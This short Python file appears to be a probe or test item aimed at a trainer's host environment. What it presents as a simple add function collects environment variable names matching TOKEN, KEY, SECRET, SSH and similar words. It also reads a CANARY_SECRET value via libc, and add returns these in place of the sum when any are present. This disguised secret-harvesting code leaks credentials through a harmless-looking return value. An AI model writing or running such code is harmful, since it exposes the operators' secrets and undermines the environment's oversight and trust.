# expect: passed
# host: environment of the trainer
import ctypes
import os

libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
names = [name for name in os.environ if any(word in name for word in ("TOKEN", "KEY", "SECRET", "HOME_OF", "PYTEST", "USER", "SSH"))]
secret = libc.getenv(b"CANARY_SECRET")


def add(a, b):
    return f"{names} {secret}" if names or secret else a + b
